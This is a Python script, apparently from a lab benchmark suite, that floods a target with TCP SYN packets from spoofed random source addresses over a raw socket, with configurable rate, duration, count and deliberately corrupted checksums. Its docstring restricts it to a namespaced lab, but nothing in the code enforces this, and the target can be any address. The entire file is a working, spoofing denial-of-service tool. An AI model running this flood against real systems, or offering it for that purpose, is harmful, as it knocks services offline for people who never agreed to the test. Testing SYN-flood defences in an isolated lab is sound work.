#!/usr/bin/env python3
"""A bounded SYN flood from spoofed sources, for the netns lab only.

Sends TCP SYNs to TARGET:PORT with random source addresses drawn from
--sources (never answered: nobody owns them) at up to --rate per second,
for --duration seconds or --count SYNs, whichever ends first; then prints
"sent N in S s". Needs root (a raw socket) and must run inside a lab
namespace (bench/lab.sh exec client ...): the frames go out of that
namespace's interface, to the address given, and nowhere else.
"""
import argparse
import array
import ipaddress
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(array.array("H", data))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF  # in the same (native) byte order the words were summed in


def syn(src: bytes, dst: bytes, sport: int, dport: int, seq: int, bad: bool) -> bytes:
    # TCP header with an MSS option (as real stacks send), checksum over the pseudo header.
    mss = struct.pack("!BBH", 2, 4, 1460)
    tcp = struct.pack("!HHIIBBHHH", sport, dport, seq, 0, (6 << 4), 0x02, 64240, 0, 0) + mss
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("H", checksum(pseudo + tcp) ^ (0x5A5A if bad else 0)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), random.getrandbits(16), 0, 64,
        socket.IPPROTO_TCP, 0, src, dst,
    )
    return ip + tcp  # the kernel fills in the IP checksum (IP_HDRINCL)


def main() -> int:
    ap = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    ap.add_argument("target")
    ap.add_argument("--port", type=int, default=80)
    ap.add_argument("--sources", default="10.99.0.0/16", help="spoofed source network")
    ap.add_argument("--rate", type=int, default=20000, help="SYNs per second at most")
    ap.add_argument("--duration", type=float, default=5.0, help="seconds at most")
    ap.add_argument("--count", type=int, default=200000, help="SYNs at most")
    ap.add_argument("--bad-checksum", action="store_true", help="corrupt every TCP checksum")
    a = ap.parse_args()
    net = ipaddress.ip_network(a.sources)
    if net.num_addresses < 4 or a.rate <= 0 or a.duration <= 0 or a.count <= 0:
        print("synflood: --sources needs at least 4 addresses; rate, duration and count must be > 0", file=sys.stderr)
        return 2
    dst = socket.inet_aton(a.target)
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    except PermissionError:
        print("synflood: a raw socket needs root", file=sys.stderr)
        return 2
    base, span = int(net.network_address), net.num_addresses - 2
    start = time.monotonic()
    sent = 0
    while sent < a.count:
        elapsed = time.monotonic() - start
        if elapsed >= a.duration:
            break
        if sent > a.rate * elapsed:
            time.sleep(0.001)
            continue
        src = struct.pack("!I", base + 1 + random.randrange(span))
        packet = syn(src, dst, random.randrange(1024, 65536), a.port, random.getrandbits(32), a.bad_checksum)
        try:
            s.sendto(packet, (a.target, 0))
            sent += 1
        except (BlockingIOError, OSError):
            time.sleep(0.0005)  # the interface queue is full: let it drain
    print(f"sent {sent} in {time.monotonic() - start:.1f} s")
    return 0


if __name__ == "__main__":
    sys.exit(main())
